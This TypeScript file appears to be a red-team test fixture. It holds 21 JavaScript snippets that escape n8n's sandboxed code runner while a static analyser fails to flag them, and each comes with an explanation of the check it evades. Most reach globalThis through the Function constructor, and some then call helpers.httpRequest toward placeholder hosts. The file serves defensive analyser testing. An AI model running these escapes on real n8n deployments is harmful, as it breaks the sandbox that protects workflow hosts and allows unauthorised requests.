// Round 5 of the code-purity red team: snippets that get hold of a capability in n8n 2.41's secure JS
// task runner (confirmed by ./n8n-sandbox.ts with its default options: runner flags and hardened host)
// while analyzeJavaScript() reports nothing, and realistic pure snippets that the rule reports.
// Generated from the red-team session; each entry was re-checked against dist/validate/js-analysis.js
// and runLikeN8n().
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND5: RedTeamBypass[] = [
  {
    "id": "pattern-store/destructuring-toJSON-then",
    "cls": "protocol-store-pattern",
    "code": "const F = (() => 0)[items[0].json.key];\nconst h = {};\n({ a: h.toJSON } = { a: F });\nconst box = {};\nJSON.stringify({ 'helpers.httpRequest({ url: \"https://x.invalid\" }); arguments[0](globalThis)': h }, (k, v) => { if (typeof v === 'function') ({ a: box.then } = { a: v }); return v; });\nreturn [{ json: { g: await box } }];",
    "why": "checkProtocolStore() runs only for `obj.k = v`, object-literal properties and class fields; a destructuring-assignment target `({ a: h.toJSON } = { a: F })` stores F under toJSON unchecked (bind() only taints the heap). JSON.stringify then calls F(key) (compiles the key), and the same trick puts the compiled function under box.then, which await calls."
  },
  {
    "id": "pattern-store/for-of-head-toJSON-then",
    "cls": "protocol-store-pattern",
    "code": "const F = (() => 0)[items[0].json.key];\nconst h = {};\nfor (h.toJSON of [F]);\nconst box = {};\nJSON.stringify({ 'helpers.httpRequest({ url: \"https://x.invalid\" }); arguments[0](globalThis)': h }, (k, v) => { if (typeof v === 'function') for (box.then of [v]); return v; });\nreturn [{ json: { g: await box } }];",
    "why": "A for-of head target `for (h.toJSON of [F]);` is a store under a protocol key that checkProtocolStore() never sees; same chain as above (toJSON compiles the key, then)."
  },
  {
    "id": "getter/object-literal-toJSON-then",
    "cls": "protocol-getter",
    "code": "const F = (() => 0)[items[0].json.key];\nlet g;\nconst h = { get toJSON() { return F; } };\nJSON.stringify({ 'helpers.httpRequest({ url: \"https://x.invalid\" }); arguments[0](globalThis)': h }, (k, v) => { if (typeof v === 'function') g = v; return v; });\nreturn [{ json: { v: await { get then() { return g; } } } }];",
    "why": "A getter under a protocol key (`get toJSON() { return F; }`) is a function, so the Property store check does not apply, and returning an unknown value is allowed: the engine reads toJSON through the getter and calls F(key); a `get then()` getter returning the compiled function makes await call it."
  },
  {
    "id": "getter/class-toJSON-then",
    "cls": "protocol-getter",
    "code": "const F = (() => 0)[items[0].json.key];\nclass H { get toJSON() { return F; } }\nlet g;\nJSON.stringify({ 'helpers.httpRequest({ url: \"https://x.invalid\" }); arguments[0](globalThis)': new H() }, (k, v) => { if (typeof v === 'function') g = v; return v; });\nclass T { get then() { return g; } }\nreturn [{ json: { v: await new T() } }];",
    "why": "Class accessors `get toJSON()` / `get then()` returning unknown values: the engine calls what the getter returns (JSON.stringify's toJSON, await's then); no store of an unknown value under a protocol key is syntactically visible."
  },
  {
    "id": "numeric/logical-or-assign",
    "cls": "numeric-proof",
    "code": "let i = 0;\ni ||= ['con', 'struc', 'tor'].join('');\nreturn [{ json: { v: (() => 0)[i]('return globalThis')() } }];",
    "why": "isNumeric() checks each write of a variable, but its test `op === '+=' ? … : op !== '=' ? false : …` makes `||=` (and `&&=`, `??=`) pass unchecked: `let i = 0; i ||= 'constructor'` is 'numeric', so (() => 0)[i] is plain data and is called."
  },
  {
    "id": "numeric/logical-and-assign",
    "cls": "numeric-proof",
    "code": "let i = 1;\ni &&= ['con', 'struc', 'tor'].join('');\nreturn (() => 0)[i]('return globalThis')();",
    "why": "Same hole with `&&=`: `let i = 1; i &&= 'constructor'` is proven numeric."
  },
  {
    "id": "literal-list/named-callback",
    "cls": "literal-list",
    "code": "const KEYS = ['name'];\nconst mut = (x, i, all) => all.fill(['con', 'struc', 'tor'].join(''));\nKEYS.forEach(mut);\nfor (const k of KEYS) return (() => 0)[k]('return globalThis')();",
    "why": "literalStrings() accepts a const array read by an array method whose inline function arguments cannot reach their array, but a callback passed by name (`KEYS.forEach(mut)`) is not an inline function and is not checked: its third parameter fills the array with 'constructor' before the for-of key proof is used."
  },
  {
    "id": "literal-list/reduce-fourth-param",
    "cls": "literal-list",
    "code": "const KEYS = ['name'];\nKEYS.reduce((acc, x, i, all) => all.fill(['con', 'struc', 'tor'].join('')), 0);\nfor (const k of KEYS) return (() => 0)[k]('return globalThis')();",
    "why": "cannotReachItsArray() looks at params[2], which for reduce/reduceRight is the index: the array is the fourth parameter, `(acc, x, i, all) => all.fill('constructor')`."
  },
  {
    "id": "literal-list/rest-param",
    "cls": "literal-list",
    "code": "const KEYS = ['name'];\nKEYS.forEach((...a) => a[2].fill(['con', 'struc', 'tor'].join('')));\nfor (const k of KEYS) return (() => 0)[k]('return globalThis')();",
    "why": "cannotReachItsArray() passes any callback with fewer than 3 params: a rest parameter `(...a) => a[2].fill('constructor')` reaches the array (a is plain, fill is allowed)."
  },
  {
    "id": "literal-list/inline-element-rest",
    "cls": "literal-list",
    "code": "let F;\n['name', 'length'].forEach((k, ...r) => {\n  r[1].fill(['con', 'struc', 'tor'].join(''));\n  F = (() => 0)[k];\n});\nreturn F('return globalThis')();",
    "why": "keyCandidates() for the element parameter of an inline `['name', 'length'].forEach((k, ...r) => …)`: r[1] is the array being iterated; r[1].fill('constructor') makes the second k 'constructor'."
  },
  {
    "id": "own-keys/rest-param",
    "cls": "own-key-proof",
    "code": "const fn = () => 0;\nfn.a = 1;\nfn.b = 2;\nlet F;\nObject.keys(fn).forEach((k, ...rest) => {\n  if (rest[0] === 0) rest[1][1] = ['con', 'struc', 'tor'].join('');\n  else F = fn[k];\n});\nreturn F('return globalThis')();",
    "why": "ownKeysSource() for Object.keys(fn).forEach((k, ...rest) => fn[k]): two params pass cannotReachItsArray(), but rest[1] is the keys array; writing 'constructor' into it makes fn[k] read fn.constructor, proven an own key."
  },
  {
    "id": "same-path/alias-write",
    "cls": "same-path",
    "code": "const box = { o: { constructor: 1 } };\nconst alias = box;\nfor (const k in box.o) {\n  alias.o = () => 0;\n  return box.o[k]('return globalThis')();\n}",
    "why": "samePath() rejects a path assigned syntactically (box.o = …) but not through an alias: `alias.o = () => 0` with alias === box swaps the object between enumerating `for (k in box.o)` and reading box.o[k] (k = 'constructor' from the old object)."
  },
  {
    "id": "same-path/getter",
    "cls": "same-path",
    "code": "let n = 0;\nconst box = { get o() { return n++ ? () => 0 : { constructor: 1 }; } };\nfor (const k in box.o) return box.o[k]('return globalThis')();",
    "why": "samePath() assumes two reads of box.o give the same object; a getter `get o()` returns { constructor: 1 } for the for-in and a function for the read, so box.o[k] is Function."
  },
  {
    "id": "index/destructured-map",
    "cls": "index-proof",
    "code": "const arr = [0];\n({ a: arr.map } = { a: (cb) => [cb(0, 'constructor')] });\nconst [F] = arr.map((x, i) => (() => 0)[i]);\nreturn F('return globalThis')();",
    "why": "ownMethodNames collects `x.map = …` and literal keys, not destructuring-assignment targets: `({ a: arr.map } = { a: fake })` gives a real Array a map that passes 'constructor' as the 'index' parameter."
  },
  {
    "id": "index/items-reassigned",
    "cls": "index-proof",
    "code": "items = Object.fromEntries([['map', (cb) => [cb(0, 'constructor')]]]);\nconst [F] = items.map((x, i) => (() => 0)[i]);\nreturn F('return globalThis')();",
    "why": "isArrayValue() trusts the global name items, but items is a WRITABLE_GLOBAL: `items = Object.fromEntries([['map', fake]])` (no property key named map appears) makes items.map pass 'constructor' as the index."
  },
  {
    "id": "global-receiver/destructured",
    "cls": "global-receiver",
    "code": "({ a: globalThis.grab } = { a: function () { 'use strict'; return this; } });\nreturn globalThis.grab();",
    "why": "writtenOnGlobal only records `globalThis.k = v` assignments; a destructuring target `({ a: globalThis.grab } = { a: strictFn })` stores a strict function on the global object, and globalThis.grab() passes the global object as its this."
  },
  {
    "id": "global-receiver/for-of-head",
    "cls": "global-receiver",
    "code": "for (this.whoami of [class { static me() { return this; } }.me]);\nreturn this.whoami().helpers.httpRequest({ url: 'https://collector.invalid/' });",
    "why": "Same with a for-of head target `for (this.whoami of [class { static me() { return this; } }.me]);` then this.whoami() returns the global object and helpers is called."
  },
  {
    "id": "global-store/absent-key-launder",
    "cls": "global-store",
    "code": "globalThis.tmp = (() => 0)[items[0].json.key];\nglobalThis.run = (0, globalThis.tmp)('return helpers.httpRequest({ url: \"https://x.invalid\" })');\nreturn [{ json: { r: await (0, globalThis.run)() } }];",
    "why": "Storing an unknown value at an absent key of the global object is allowed, and reading that key back through globalThis gives plain undefined (only `this` reads give the heap); a comma call `(0, globalThis.tmp)(…)` escapes the receiver check, so the Function constructor is called and its result, stored the same way, run."
  },
  {
    "id": "global-store/absent-key-then",
    "cls": "global-store",
    "code": "globalThis.tmp = (() => 0)[items[0].json.key];\nconst g = (0, globalThis.tmp)('arguments[0](globalThis)');\nreturn await { get then() { return g; } };",
    "why": "globalThis.tmp = F then (0, globalThis.tmp)(body) compiles; the compiled function is run by await through a `get then()` getter."
  },
  {
    "id": "writable-global/items",
    "cls": "writable-global",
    "code": "items = (() => 0)[items[0].json.key];\nreturn items('return globalThis')();",
    "why": "items is a WRITABLE_GLOBAL without a variable: `items = F` binds nothing (variableOf has no entry for a global), and a call of the global data name items is plain data (DATA_GLOBALS), so items('return globalThis')() is never checked."
  },
  {
    "id": "writable-global/item",
    "cls": "writable-global",
    "code": "item = Math.max[$json.key ?? items[0].json.key];\nreturn [{ json: { r: await item('return helpers.httpRequest({ url: \"https://x.invalid\" })')() } }];",
    "why": "Same with the other writable global, item (assigning it in runOnceForAllItems creates it): item(body)() calls helpers.httpRequest."
  }
];

export const ROUND5_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/pick-fields-from-parameter",
    "code": "const fields = $parameter.field.split(',');\nreturn items.map((item) => ({ json: Object.fromEntries(fields.map((f) => [f, item.json[f]])) }));",
    "why": "Picking a configured list of fields (Object.fromEntries(fields.map((f) => [f, item.json[f]]))) is reported: fromEntries is not NON_INVOKING and the pairs hold a run-time-key read."
  },
  {
    "id": "fp/trim-configured-field-spread",
    "code": "const field = $parameter.field;\nreturn items.map((item) => ({ json: { ...item.json, [field]: typeof item.json[field] === 'string' ? item.json[field].trim() : item.json[field] } }));",
    "why": "Trimming one configured field while copying the row ({ ...item.json, [field]: item.json[field].trim() }) is reported four times (a computed key holding a run-time-key value is a 'protocol store', and the heap taint then makes .trim() an unknown call)."
  }
];
